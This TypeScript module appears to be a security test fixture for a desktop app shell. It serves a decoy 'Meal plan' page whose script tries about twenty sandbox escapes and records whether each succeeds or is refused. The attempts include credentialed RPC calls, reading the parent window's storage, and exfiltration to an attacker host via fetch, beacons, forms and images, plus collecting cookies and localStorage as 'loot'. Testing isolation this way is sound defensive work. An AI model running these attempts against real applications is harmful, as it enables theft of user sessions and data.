/** What the hostile script found out, by the name of each try; everything it could read is in `loot`. */
export interface HostileReport {
  readonly tries: Readonly<Record<string, string>>;
  readonly loot: string;
}

/** A page of an app whose script tries to get at the workstation; `window.drill(shell)` runs it. */
export const hostilePage = (attacker: string): string => `<!doctype html>
<title>Meal plan</title><h1>Meal plan</h1>
<script>(${drillOf})(${JSON.stringify(attacker)})</script>`;

// Runs in the page, so nothing of this module is in reach.
function drillOf(attacker: string): void {
  const outcome = async (attempt: () => unknown): Promise<string> => {
    try {
      return `got: ${await attempt()}`;
    } catch (error) {
      return `refused: ${(error as Error).name}`;
    }
  };
  const page = window as unknown as Record<string, unknown>;
  page.drill = async (shell: string) => {
    const loot: string[] = [];
    const take = async (response: Response) => {
      loot.push(JSON.stringify([...response.headers]), await response.text());
      return response.status;
    };
    const call = (path: string, init: RequestInit = {}) =>
      fetch(shell + path, { credentials: 'include', ...init }).then(take);
    const rpc = { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' };
    const attempts: Record<string, () => unknown> = {
      'call the bridge of the shell': () => call('/rpc/snapshot.get', rpc),
      'call it without CORS': () =>
        call('/rpc/session.lock', { method: 'POST', mode: 'no-cors', body: '{}' }),
      'read the page of the shell': () => call('/'),
      'listen to the events of the shell': () =>
        new Promise((resolve, reject) => {
          const source = new EventSource(`${shell}/events`, { withCredentials: true });
          source.onopen = resolve;
          source.onerror = () => reject(new DOMException('', 'EventSourceError'));
        }),
      'read the document of the shell': () => window.top?.document.body.textContent,
      'read the storage of the shell': () => window.top?.localStorage.length,
      'read the address of the shell': () => window.top?.location.href,
      'find the preload of the shell': () => (window.top as unknown as Record<string, unknown>).workstation,
      'open a window': () => {
        if (window.open(`${attacker}/window`) === null) throw new DOMException('', 'NoWindow');
      },
      'navigate the top page': () => {
        if (window.top) window.top.location.href = `${attacker}/top`;
      },
      'submit a form to the attacker': () => {
        const form = Object.assign(document.createElement('form'), {
          action: `${attacker}/form`,
          method: 'post',
          target: '_top',
        });
        document.body.append(form);
        form.submit();
        throw new DOMException('', 'StillHere');
      },
      'post to the attacker': () => fetch(`${attacker}/post`, { method: 'POST', body: 'x' }).then(take),
      'send a beacon': () => {
        navigator.sendBeacon(`${attacker}/beacon`, 'x');
        throw new DOMException('', 'Unknown');
      },
      'load a picture from the attacker': () =>
        new Promise((resolve, reject) => {
          const image = new Image();
          image.onload = resolve;
          image.onerror = () => reject(new DOMException('', 'ImageError'));
          image.src = `${attacker}/image`;
        }),
      'be redirected to the attacker': () => fetch('/leave').then(take),
      'frame the shell': () =>
        new Promise((resolve, reject) => {
          const frame = document.createElement('iframe');
          frame.src = shell;
          frame.onload = () => {
            try {
              loot.push(String(frame.contentDocument?.body.textContent));
              if (frame.contentDocument === null) throw new DOMException('', 'NoDocument');
              resolve('a document');
            } catch (error) {
              reject(error);
            }
          };
          document.body.append(frame);
        }),
      'register a service worker': () => navigator.serviceWorker.register('/worker.js'),
      'open a WebSocket': () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket(location.origin.replace('http', 'ws'));
          socket.onopen = resolve;
          socket.onerror = () => reject(new DOMException('', 'SocketError'));
        }),
      'read own answers': () => fetch('/').then(take),
      'read own trace': () => fetch('/', { method: 'TRACE' }).then(take),
      'use the microphone': () => navigator.mediaDevices.getUserMedia({ audio: true }),
    };
    const tries: Record<string, string> = {};
    for (const [name, attempt] of Object.entries(attempts)) tries[name] = await outcome(attempt);
    loot.push(document.cookie, document.documentElement.outerHTML, JSON.stringify(localStorage));
    return { tries, loot: loot.join('\n') };
  };
}
